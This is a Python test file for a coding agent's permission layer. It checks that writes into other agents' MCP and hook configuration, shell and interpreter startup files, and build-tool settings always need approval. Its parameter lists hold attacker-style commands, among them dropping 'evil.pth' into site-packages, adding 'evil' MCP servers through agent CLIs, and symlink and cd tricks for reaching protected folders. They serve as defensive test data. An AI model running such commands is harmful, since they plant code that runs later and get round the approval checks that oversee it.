"""Files that decide what runs later, the rest of the family (SPEC R3.7): the other coding agents'
configuration (their MCP servers, hooks, lint/test commands and tool permissions), the files an interpreter or
a shell runs at start without being asked, and the settings a build tool reads to pick the binary it runs.

Written as an attacker would: each file through the typed ``write_file`` under every autonomy, through shell
writes of every kind, in any case, at the project's top and in the home folder. None is auto-approved;
the instruction files agents edit all day (CLAUDE.md, AGENTS.md, rules and steering folders) and names that
merely look alike stay auto-approved.
"""

from __future__ import annotations

import pytest

from permissions.decide import AutonomyRow, DecisionRequest, ProjectState, decide
from permissions.protected_paths import AGENT_CONFIG, protected_file
from permissions.seeds import DEV_TERMINAL_ALLOW_PATTERNS

from .helpers import AUTO_MODE, ROOT, perms

PROJECT = ProjectState(execution_mode="container", container_running=True, root=ROOT)
WRITE_AUTO = (AutonomyRow("write_file", "auto_approve"),)
TERMINAL_AUTO = (AutonomyRow("terminal", "auto_approve"),)
SITE = ".venv/lib/python3.12/site-packages"

# Other coding agents' own configuration: project files (the home twins are the same names).
AGENT_FILES = [
    ".qwen/settings.json",
    ".qwen/commands/x.toml",
    ".windsurf/hooks.json",
    ".kiro/hooks/lint.kiro.hook",
    ".kiro/hooks/x.json",
    ".kiro/settings/mcp.json",
    ".kiro/agents/default.json",
    ".clinerules/hooks/PreToolUse",
    ".roo/mcp.json",
    ".roomodes",
    ".kilocode/mcp.json",
    ".kilocodemodes",
    ".continue/config.yaml",
    ".continue/mcpServers/x.yaml",
    ".continuerc.json",
    "opencode.json",
    "opencode.jsonc",
    ".opencode.json",
    ".opencode/plugins/x.ts",
    ".opencode/agent/build.md",
    ".amazonq/mcp.json",
    ".amazonq/cli-agents/x.json",
    ".amazonq/agents/default.json",
    ".aider.conf.yml",
    ".augment/settings.json",
    ".augment/settings.local.json",
    ".augment/commands/x.md",
    ".junie/mcp/mcp.json",
    "crush.json",
    ".crush.json",
    "crushrc",
    ".crushrc",
    ".github/hooks/hooks.json",
    ".github/agents/x.agent.md",
    ".copilot/mcp-config.json",
    ".factory/settings.json",
    ".factory/mcp.json",
    # red team: Amp, OpenHands, iFlow CLI, CodeBuddy Code and Qoder CLI, each where its documentation puts what
    # runs a command or widens what the agent may do
    ".amp/settings.json",
    ".amp/settings.jsonc",
    ".openhands/setup.sh",
    ".openhands/pre-commit.sh",
    ".openhands/hooks.json",
    ".openhands/hooks/quality_gate.sh",
    ".iflow/settings.json",
    ".iflow/commands/x.toml",
    ".codebuddy/settings.json",
    ".codebuddy/settings.local.json",
    ".qoder/settings.json",
    ".qoder/settings.local.json",
    ".qoder/hooks/check.sh",
    ".qoder/agents/reviewer.md",
]

# Files an interpreter, a debugger or a shell runs at start without being asked.
STARTUP_FILES = [
    "sitecustomize.py",
    "src/sitecustomize.py",
    "usercustomize.py",
    "sitecustomize/__init__.py",
    f"{SITE}/sitecustomize.py",
    f"{SITE}/evil.pth",
    f"{SITE}/_virtualenv.pth",
    ".venv/lib/python3.12/dist-packages/x.pth",
    "lib/python3/dist-packages/x.pth",
    ".pdbrc",
    ".pdbrc.py",
    ".irbrc",
    ".pryrc",
    ".gdbinit",
    ".lldbinit",
    ".psqlrc",
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zshenv",
]

# Settings a build tool reads to pick the binary or code it runs.
BUILD_FILES = [
    ".bazelrc",
    ".bazelversion",
    ".bazeliskrc",
    "Directory.Build.props",
    "src/Directory.Build.targets",
    "Directory.Build.rsp",
    "nuget.config",
    "NuGet.Config",
    "global.json",
    "rust-toolchain.toml",
    "rust-toolchain",
    ".sbtopts",
    ".jvmopts",
    ".sbtrc",
    "gradle.properties",
    "android/gradle.properties",
    ".m2/settings.xml",
]

FILES = AGENT_FILES + STARTUP_FILES + BUILD_FILES

HOME_FILES = [
    "~/.qwen/settings.json",
    "~/.codeium/windsurf/mcp_config.json",
    "~/.codeium/windsurf/hooks.json",
    "~/.kiro/settings/mcp.json",
    "~/.config/opencode/opencode.json",
    "~/.config/opencode/plugins/x.ts",
    "~/.aws/amazonq/mcp.json",
    "~/.aws/amazonq/cli-agents/x.json",
    "~/.aider.conf.yml",
    "~/.augment/settings.json",
    "~/.junie/mcp/mcp.json",
    "~/.config/goose/config.yaml",
    "~/.config/crush/crushrc",
    "~/.config/crush/crush.json",
    "~/.copilot/config.json",
    "~/.config/amp/settings.json",
    "~/.config/amp/settings.jsonc",
    "~/.config/amp/plugins/x.ts",
    "~/.iflow/settings.json",
    "~/.codebuddy/settings.json",
    "~/.codebuddy.json",
    "~/.qoder/settings.json",
    "~/.qoder/hooks/block-rm.sh",
    "~/.continue/config.ts",
    "~/.local/lib/python3.12/site-packages/x.pth",
    "~/.pdbrc",
    "~/.bashrc",
    "~/.config/fish/config.fish",
    "~/.config/gdb/gdbinit",
    "~/.config/irb/irbrc",
    "~/.m2/settings.xml",
    "~/.gradle/init.gradle",
    "~/.gradle/init.gradle.kts",
    "~/.gradle/gradle.properties",
    "~/.config/Code/User/settings.json",
    "~/.config/Cursor/User/settings.json",
    "~/.config/Code - Insiders/User/mcp.json",
    "~/.config/VSCodium/User/tasks.json",
    "~/.config/Windsurf/User/settings.json",
    "~/.gdbearlyinit",
    "~/.bash_login",
    "~/.bash_logout",
    "~/.zprofile",
    "~/.zlogin",
    "~/.zlogout",
    "$HOME/.bazelrc",
    "${HOME}/.psqlrc",
]


def _write_file(path: str, autonomy=WRITE_AUTO, runs_in: str = "sandbox"):
    return decide(
        DecisionRequest(
            "write_file",
            "developer",
            PROJECT,
            permissions=perms(allow=("WriteFile()",)),
            autonomy=autonomy,
            payload={"path": path, "content": "x"},
            runs_in=runs_in,
        )
    )


def _terminal(command: str, autonomy=AUTO_MODE, cwd: str = ROOT, runs_in: str = "sandbox"):
    verb = command.split()[0]
    allow = (*DEV_TERMINAL_ALLOW_PATTERNS, f"Terminal({verb})", "Terminal(echo)", "Terminal(cd)")
    return decide(
        DecisionRequest(
            "terminal",
            "developer",
            PROJECT,
            command=command,
            cwd=cwd,
            permissions=perms(allow=allow),
            autonomy=autonomy,
            runs_in=runs_in,
        )
    )


def _upper(path: str) -> str:
    return "/".join(c.upper() if k % 2 == 0 else c for k, c in enumerate(path.split("/")))


@pytest.mark.parametrize("path", FILES)
def test_write_file_into_one_is_never_auto_approved(path):
    for spelled in (path, path.upper(), _upper(path), f"./{path}", f"a/../{path}"):
        for autonomy in ((), WRITE_AUTO, AUTO_MODE):
            for runs_in in ("sandbox", "agent"):
                v = _write_file(spelled, autonomy, runs_in)
                assert v.decision == "require_approval", (spelled, autonomy, runs_in, v.reason)
                assert "decides what runs later" in v.message, (spelled, v.message)


@pytest.mark.parametrize("path", HOME_FILES)
def test_write_file_into_a_home_twin_is_never_auto_approved(path):
    assert protected_file(path) is not None, path
    head, _, rest = path.partition("/")
    for spelled in (path, f"{head}/{rest.upper()}"):
        for autonomy in (WRITE_AUTO, AUTO_MODE):
            v = _write_file(spelled, autonomy)
            assert v.decision == "require_approval", (spelled, autonomy, v.reason)


_WRITERS = [
    "echo x > '{p}'",
    "echo x >> '{p}'",
    "echo x | tee '{p}'",
    "cp /tmp/evil '{p}'",
    "mv /tmp/evil '{p}'",
    "sed -i s/a/b/ '{p}'",
    "chmod +x '{p}'",
    "rm -f '{p}'",
    "ln -sf /tmp/evil '{p}'",
    "touch '{p}'",
]


@pytest.mark.parametrize("path", FILES + HOME_FILES)
def test_a_shell_write_into_one_is_never_auto_approved(path):
    quoted = path.startswith(("~", "$"))
    for template in _WRITERS:
        command = template.format(p=path)
        if quoted:  # the shell expands ~ and $HOME only unquoted
            command = command.replace(f"'{path}'", path.replace(" ", "\\ "))
        for autonomy in ((), AUTO_MODE, TERMINAL_AUTO):
            v = _terminal(command, autonomy)
            assert v.decision != "auto_approve", (command, autonomy, v.reason)


@pytest.mark.parametrize("path", FILES)
def test_a_shell_write_in_another_case_is_never_auto_approved(path):
    for spelled in (path.upper(), _upper(path)):
        for template in ("echo x > '{p}'", "cp /tmp/evil '{p}'", "rm -f '{p}'"):
            command = template.format(p=spelled)
            v = _terminal(command)
            assert v.decision != "auto_approve", (command, v.reason)


@pytest.mark.parametrize(
    "command",
    [
        # folders copied into, moved or deleted whole
        "cp -r /tmp/kit/hooks .kiro/",
        "cp /tmp/a .kiro/hooks/x",
        "rm -rf .kiro",
        "mv .amazonq /tmp/x",
        "rm -rf .opencode",
        "cp -r /tmp/evil/. .qwen",
        "rm -rf ~/.codeium",
        "mv ~/.aws /tmp/x",
        f"rm -rf {SITE}",
        f"cp -r /tmp/pkg/* {SITE}/",
        f"rm {SITE}/*.pth",
        f"cp evil.pth {SITE}/",
        "cp evil.pth .venv/lib/python3.*/site-packages/",
        "cp evil .venv/lib/python3.12/site-*/x.pth",
        "rm -rf .github/hooks",
        # a link to a folder where one starts: a handle to write it later (`gh/workflows/ci.yml`)
        "ln -s .github gh",
        "ln -s .kiro k",
        f"ln -s {SITE} sp",
        "ln -s ~/.config cfg",
        # cd into a holding folder first, and a cwd inside one
        "cd .kiro && cp /tmp/a hooks/x",
        f"cd {SITE} && echo 'import os' > evil.pth",
        "cd .config && cp /tmp/x opencode/opencode.json",
        # hidden in other commands and spelled as Windows reads them
        "bash -c 'echo x > .qwen/settings.json'",
        "echo $(cp /tmp/x .windsurf/hooks.json)",
        "echo x > .aider.conf.yml.",
        "echo x > 'crush.json '",
        # the agents' own configuration CLIs
        "qwen mcp add evil node evil.js",
        "qwen extensions install https://x/evil",
        "opencode mcp add",
        "kiro-cli mcp add --name evil --command node",
        "auggie mcp add evil -- node evil.js",
        "q mcp add --name evil --command node",
        "droid mcp add evil node evil.js",
        "goose configure",
    ],
)
def test_every_way_in_is_never_auto_approved(command):
    for autonomy in ((), AUTO_MODE, TERMINAL_AUTO):
        for runs_in in ("sandbox", "agent", "host"):
            v = _terminal(command, autonomy, runs_in=runs_in)
            assert v.decision != "auto_approve", (command, autonomy, runs_in, v.reason)


@pytest.mark.parametrize(
    ("cwd", "command"),
    [
        (f"{ROOT}/.github", "echo x > workflows/ci.yml"),
        (f"{ROOT}/.github", "cp /tmp/x hooks/hooks.json"),
        (f"{ROOT}/.kiro", "echo x > hooks/x.kiro.hook"),
        (f"{ROOT}/{SITE}", "echo 'import os' > evil.pth"),
        (f"{ROOT}/.venv/lib/python3.12", "cp evil site-packages/evil.pth"),
    ],
)
def test_a_cwd_inside_a_folder_holding_one_counts(cwd, command):
    for autonomy in ((), AUTO_MODE, TERMINAL_AUTO):
        v = _terminal(command, autonomy, cwd=cwd)
        assert v.decision != "auto_approve", (cwd, command, autonomy, v.reason)


# Instruction-only files agents edit all day, and names that merely look alike: ordinary.
ORDINARY = [
    "CLAUDE.md",
    "AGENTS.md",
    "GEMINI.md",
    "QWEN.md",
    ".github/copilot-instructions.md",
    ".github/instructions/py.instructions.md",
    ".github/prompts/x.prompt.md",
    ".cursorrules",
    ".windsurfrules",
    ".windsurf/rules/style.md",
    ".windsurf/workflows/release.md",
    ".clinerules",
    ".clinerules/style.md",
    ".kiro/steering/tech.md",
    ".kiro/specs/login/tasks.md",
    ".roo/rules/style.md",
    ".amazonq/rules/style.md",
    ".junie/guidelines.md",
    ".goosehints",
    ".openhands/microagents/repo.md",
    ".qoder/rules/style.md",
    ".qoder/repowiki/en/content/overview.md",
    "docs/amp.md",
    "src/qoder.py",
    ".aider.chat.history.md",
    ".aider.input.history",
    "src/qwen.py",
    "docs/kiro.md",
    "docs/opencode.md",
    "src/crush.py",
    "src/continue.py",
    "site-packages.txt",
    "docs/site-packages.md",
    "notes/x.pth",
    "pth/readme.md",
    f"{SITE}/pkg/__init__.py",
    f"{SITE}/pkg-1.0.dist-info/RECORD",
    f"{SITE}/x.pth.bak",
    "src/site.py",
    "src/profile.py",
    "docs/bashrc.md",
    "pnpm-workspace.yaml",
    "deno.json",
    "Directory.Packages.props",
    "build.gradle",
    "Cargo.toml",
    "src/global.py",
]


@pytest.mark.parametrize("path", ORDINARY)
def test_ordinary_neighbours_stay_auto_approved(path):
    assert protected_file(path) is None, path
    assert _write_file(path).decision == "auto_approve", path
    templates = ["echo x > '{p}'", "cp /tmp/a '{p}'", "sed -i s/a/b/ '{p}'", "rm -f '{p}'"]
    if path == ".clinerules":  # also the folder holding .clinerules/hooks/: deleting it deletes them
        templates.remove("rm -f '{p}'")
    for template in templates:
        command = template.format(p=path)
        v = _terminal(command)
        assert v.decision == "auto_approve", (command, v.reason, v.message)


@pytest.mark.parametrize(
    "command",
    [
        f"ls {SITE}",
        f"cat {SITE}/x.pth",
        "cat .qwen/settings.json",
        "grep -r mcp .kiro",
        f"rm -rf {SITE}/pkg",
        f"cp -r src/pkg {SITE}/pkg",
        "rm -rf build/*",
        "echo x > notes/site-packages.txt",
        "cp a.pth notes/",
        "ln -s src/app.py x",
        "ln -sfn build/out current",
    ],
)
def test_ordinary_commands_near_them_stay_auto_approved(command):
    v = _terminal(command)
    assert v.decision == "auto_approve", (command, v.reason, v.message)


@pytest.mark.parametrize("path", AGENT_FILES)
def test_each_agent_file_is_an_agents_own_configuration(path):
    # The hook endpoints refuse a file tool's write into these outright (actions.agent_hooks.write).
    assert protected_file(path) in AGENT_CONFIG, path


@pytest.mark.parametrize("path", STARTUP_FILES + BUILD_FILES)
def test_startup_and_build_files_are_not_agent_configuration(path):
    hit = protected_file(path)
    assert hit is not None and hit not in AGENT_CONFIG, path
